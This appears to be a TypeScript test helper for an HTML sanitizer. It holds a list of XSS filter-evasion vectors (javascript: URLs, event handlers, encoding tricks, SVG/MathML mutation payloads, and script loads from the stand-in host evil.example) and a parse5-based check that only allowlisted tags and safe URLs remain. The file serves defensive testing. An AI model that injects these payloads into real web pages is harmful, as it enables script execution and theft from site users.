import { parse, defaultTreeAdapter as tree, type DefaultTreeAdapterTypes as T } from 'parse5'
import { expect } from 'vitest'

// Vectors in the manner of the OWASP XSS Filter Evasion Cheat Sheet, from memory; the result is looked at with parse5,
// as a browser would read it.
export const hostile = [
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<a onmouseover="alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onerror="alert(1)" src=x>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u00adjava\u200bscript:alert(1)">x</a>',
  '<SCRIPT/XSS SRC="https://evil.example"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '<iframe src=https://evil.example <',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<TABLE><TD BACKGROUND="javascript:alert(1)">x',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<DIV STYLE="width: expression(alert(1));">x</DIV>',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess="always">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<img src="//evil.example/x.png">',
  '<a href="http://evil.example">x</a>',
  '<p lang="en&quot; onclick=&quot;alert(1)">x</p>',
  '<data value="attribute:x&quot; onclick=&quot;alert(1)">x</data>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<p><!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
]
const allowed: Record<string, string[]> = {
  a: ['href'],
  img: ['src', 'alt'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
  data: ['value'],
}
const tags = new Set(
  'p h2 h3 h4 ul ol li strong em s sub sup a table thead tbody tr th td br figure img figcaption blockquote data'.split(
    ' ',
  ),
)

/**
 * Looks at what is left of a text, as a browser would read it: nothing but our subset, and no address that runs
 * anything.
 */
export function look(html: string) {
  const visit = (node: T.Node) => {
    if ('tagName' in node && !['html', 'head', 'body'].includes(node.tagName)) {
      expect(tags.has(node.tagName), node.tagName).toBe(true)
      for (const { name, value } of node.attrs) {
        expect([...(allowed[node.tagName] ?? []), 'lang', 'dir'], `${node.tagName} ${name}`).toContain(name)
        if (name === 'href') expect(value).toMatch(/^(https:\/\/[^/\\]|mailto:|tel:|[/#](?![/\\]))/)
        if (name === 'src') expect(value).toMatch(/^(https:\/\/[^/\\]|[/#](?![/\\]))/)
      }
    }
    if (node.nodeName === '#comment' || node.nodeName === '#documentType')
      expect(node.nodeName).toBe('nothing of the kind')
    for (const c of 'childNodes' in node ? tree.getChildNodes(node as T.ParentNode) : []) visit(c)
  }
  visit(parse(`<!doctype html><html><head></head><body>${html}</body></html>`).childNodes[1]!)
}
